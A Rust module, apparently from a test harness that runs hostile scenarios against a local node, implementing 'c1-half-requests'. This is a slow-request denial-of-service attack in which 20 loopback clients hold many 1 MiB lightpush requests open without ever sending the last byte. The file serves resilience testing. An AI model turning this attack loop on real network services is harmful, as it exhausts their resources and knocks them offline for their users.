//! Attack c1: requests that never end.

use std::net::Ipv4Addr;
use std::time::Duration;

use futures::FutureExt as _;
use tokio::time::{sleep, timeout};

use super::{Attack, Price, nothing, with_services};
use crate::hostile::node::Target;
use crate::hostile::service_client::ServiceClient;
use crate::hostile::{HostileError, Stage, Tasks, asks, rpc};

/// Number of clients, each with its own address.
const ATTACKERS: u8 = 20;
/// Streams that each client has open at a time.
const STREAMS: usize = 8;
/// Length that each request announces, bytes. All but the last byte is sent.
const REQUEST_BYTES: usize = 1 << 20;
/// Time for which the streams are held, and for which a write may wait.
const HELD: Duration = Duration::from_secs(5);
/// Rounds of each client, enough for ten minutes.
const ROUNDS_MAX: u32 = 120;
/// Duration of the attack before messages are counted.
const RISING: Duration = Duration::from_secs(3);

/// Attack c1: half requests.
pub const ATTACK: Attack = Attack {
    name: "c1-half-requests",
    about: "160 lightpush requests of 1 MiB at a time whose last byte never comes, from 20 addresses",
    price: Price::Addresses(ATTACKERS as u32),
    options: with_services,
    start: |stage| start(stage).boxed(),
    then: nothing,
};

async fn start(stage: &mut Stage) -> Result<Tasks, HostileError> {
    let mut tasks = Tasks::default();
    for n in 0..ATTACKERS {
        let from = Ipv4Addr::new(127, 0, 20, n + 1);
        tasks.spawn(hoard(from, stage.victim.target()));
    }
    sleep(RISING).await;
    Ok(tasks)
}

async fn hoard(from: Ipv4Addr, target: Target) {
    let mut bytes = rpc::varint(REQUEST_BYTES as u64);
    bytes.resize(bytes.len() + REQUEST_BYTES - 1, 0x0a);
    let mut client: Option<ServiceClient> = None;
    for _ in 0..ROUNDS_MAX {
        if client.is_none() {
            client = ServiceClient::connect(from, target, None).await.ok();
        }
        let Some(connected) = &client else {
            sleep(Duration::from_secs(1)).await;
            continue;
        };
        let sending =
            (0..STREAMS).map(|_| timeout(HELD, connected.raw.send(asks::LIGHTPUSH, &bytes)));
        let streams = futures::future::join_all(sending).await;
        let is_served = streams.iter().any(|sent| matches!(sent, Ok(Ok(_))));
        sleep(HELD).await;
        drop(streams);
        if !is_served {
            client = None;
        }
    }
}
